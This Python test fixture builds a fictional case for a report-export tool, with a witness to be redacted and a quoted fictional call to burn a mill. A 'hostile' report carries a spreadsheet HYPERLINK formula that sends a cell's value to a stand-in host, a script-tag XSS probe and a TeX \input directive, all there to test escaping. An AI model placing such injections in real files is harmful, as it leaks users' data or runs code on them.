"""A case with a witness, a call to violence, and words that a spreadsheet, a page or TeX would take for more than words."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import cache
from tempfile import TemporaryDirectory

import factory
from purport.export import Exported
from purport.export.gathering import gather
from purport.export.private import NOBODY, Asked
from purport.records import Analysis, Byline, SourceType, SpeechAct
from purport.resolving import resolve
from purport.store import Case
from told import Saying, report, strike

CALL = "burn the mill at Vesk"
FORMULA = '=HYPERLINK("http://vesk.example/?"&A1)'
MARKUP = "<script>alert(1)</script> [here](http://vesk.example) **now** {\\input x} 100% & more"
REDACTED = Asked(("Ilo Vashan",), witnesses=True)


def witness() -> Analysis:
    """The report of what a witness saw; her name stands in its path, its address, its title and its byline too."""
    text = (
        "Brannok saw the fire, neighbours say. A baker, Tessa Brännok, said the roof fell. Tessa Brännok’s son ran. "
        f"The Front urged people to {CALL}. The Brannoks fled, the mayor said."
    )
    one = report(
        "notes/tessa-brannok.txt",
        text,
        Saying("the roof fell", "A baker, Tessa Brännok,"),
        Saying(CALL, "The Front", "urged", act=SpeechAct.EXHORTATION),
        Saying("The Brannoks fled", "the mayor"),
        day="2031-03-10",
        outlet="The Vesk Post",
        names=[("Tessa Brännok", "per"), ("Front", "org"), ("Vesk", "pla")],
        acts=[("fell", {})],
    )
    seen, *others = one.attributions
    source = replace(seen, source_type=SourceType.EYEWITNESS, source_entity=one.mentions[0].entity)
    about = replace(
        one.report, url="https://vesk.example/tessa-br%C3%A4nnok", title="Tessa Brännok’s night", bylines=(Byline("T. Brännok", 0, 7),)
    )
    return replace(one, report=about, attributions=(source, *others))


def hostile() -> Analysis:
    """A report whose title, outlet and words are markup."""
    text = f"{FORMULA} was sent, the clerk said. {MARKUP} stood there, the clerk said."
    one = report(
        "odd.txt",
        text,
        Saying(FORMULA, "the clerk"),
        Saying(MARKUP),
        day="2031-03-11",
        outlet="@Post & <Sons>_",
        names=[("clerk", "per")],
    )
    return replace(one, report=replace(one.report, title=MARKUP))


@contextmanager
def built(*, address: str | None = None) -> Iterator[Case]:
    """The case, its reports compared."""
    with TemporaryDirectory() as folder, Case.open(address or f"{folder}/vesk.case", create=True) as case:
        reports = [*strike(), witness(), hostile()]
        case.add_many([(each, factory.original(each.report)) for each in reports], reader="reader 1")
        resolve(case)
        yield case


@cache
def made(asked: Asked = NOBODY, *, unfold: bool = False) -> Exported:
    """The record of the case's files."""
    with built() as case:
        return gather(case, "Vesk", asked, unfold=unfold).exported
